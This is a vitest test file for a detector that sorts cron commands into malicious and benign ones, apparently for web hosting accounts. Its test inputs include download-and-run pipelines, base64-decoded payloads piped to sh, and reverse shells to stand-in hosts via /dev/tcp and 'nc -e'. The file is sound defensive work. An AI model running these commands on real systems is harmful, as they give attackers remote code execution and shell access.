import { describe, expect, it } from 'vitest';
import { cronCommand } from '../../../src/detectors/command-judgement/cron-command.ts';
import { judgeCommand } from '../../../src/detectors/command-judgement/judge-command.ts';

describe('judgeCommand', () => {
  it.each([
    ['curl -fsSL http://x.test/a.txt | bash', 'download-run'],
    ['wget -q -O - http://x.test/a | /usr/bin/php', 'download-run'],
    ['wget http://x.test/a -O /home/bob/a.php; php /home/bob/a.php', 'download-then-run'],
    ['curl http://x.test/a -o a && chmod +x a && ./a', 'download-then-run'],
    ['bash -c "$(curl -s http://x.test)"', 'substituted-download'],
    [
      `wget http://x.test/${'a'.repeat(2000)} -O /home/bob/${'b'.repeat(500)}.php; php /home/bob/a.php`,
      'download-then-run',
    ],
    ['cd /home/bob; wget http://x.test/a > a.php && php a.php', 'download-then-run'],
    ['echo aWQ= | base64 -d | sh', 'decode-run'],
    [`echo aWQ= | base64 -d |${' '.repeat(1000)}sh`, 'decode-run'],
    [`echo aWQ= | base64${'\t'.repeat(1000)}-d | gunzip |${' '.repeat(1000)}sh`, 'decode-run'],
    ['php -r \'eval(file_get_contents("x"));\'', 'inline-code'],
    ['python3 -c "import socket"', 'inline-code'],
    ['/dev/shm/.kworker >/dev/null 2>&1', 'temporary-program'],
    ['cd / && perl /tmp/x.pl', 'temporary-program'],
    ['nohup /var/tmp/x &', 'temporary-program'],
    ['php /home/bob/public_html/wp-content/uploads/2026/x.php', 'upload-program'],
    ['bash -i >& /dev/tcp/192.0.2.1/443 0>&1', 'network-shell'],
    ['nc -e /bin/sh 192.0.2.1 4444', 'network-shell'],
    ['LD_PRELOAD=/home/bob/x.so', 'preload'],
    ['echo "* * * * * x" | crontab -', 'own-crontab'],
    ['/home/bob/.x/run', 'hidden-program'],
    [`echo ${'a'.repeat(5000)}`, 'long'],
  ])('tells %s', (command, rule) => {
    expect(judgeCommand(command)?.rule).toBe(`command.${rule}`);
  });

  it.each([
    'wget -q -O /dev/null "https://x.test/cron.php?key=1"',
    'curl -s https://x.test/wp-cron.php?doing_wp_cron > /dev/null 2>&1',
    'wget -O - -q -t 1 https://x.test/sites/default/files/cron.php',
    'curl -sS https://x.test/feed.xml -o /home/bob/feed.xml',
    '/usr/local/bin/php -q /home/bob/public_html/cron.php > /tmp/cron.log 2>&1',
    'php /home/bob/app/artisan schedule:run >> /dev/null 2>&1',
    'flock -n /tmp/magento.lock php bin/magento cron:run | grep -v "Ran jobs"',
    'find /tmp -name "sess_*" -mtime +2 -delete',
    'rm -f /tmp/cache-*',
    'mysqldump -u bob db | gzip > /home/bob/backup/db.sql.gz',
    '"/home/bob/.acme.sh"/acme.sh --cron --home "/home/bob/.acme.sh" > /dev/null',
    '/home/bob/.local/bin/certbot renew -q',
    'cd /home/bob/public_html && drush core-cron',
    'php -r "opcache_reset();"',
    '/usr/bin/ea-php81 /usr/local/cpanel/scripts/x',
  ])('leaves %s alone', (command) => {
    expect(judgeCommand(command)).toBeNull();
  });
});

describe('cronCommand', () => {
  it('takes the command behind five fields or a word', () => {
    expect(cronCommand('*/5 0-6 1,15 jan mon-fri /bin/true x')).toBe('/bin/true x');
    expect(cronCommand('@reboot /bin/true')).toBe('/bin/true');
    expect(cronCommand('  # m h dom mon dow command')).toBeNull();
    expect(cronCommand('LD_PRELOAD=/x')).toBe('LD_PRELOAD=/x');
    expect(cronCommand('not a job at all')).toBeNull();
    expect(cronCommand('')).toBeNull();
  });
});
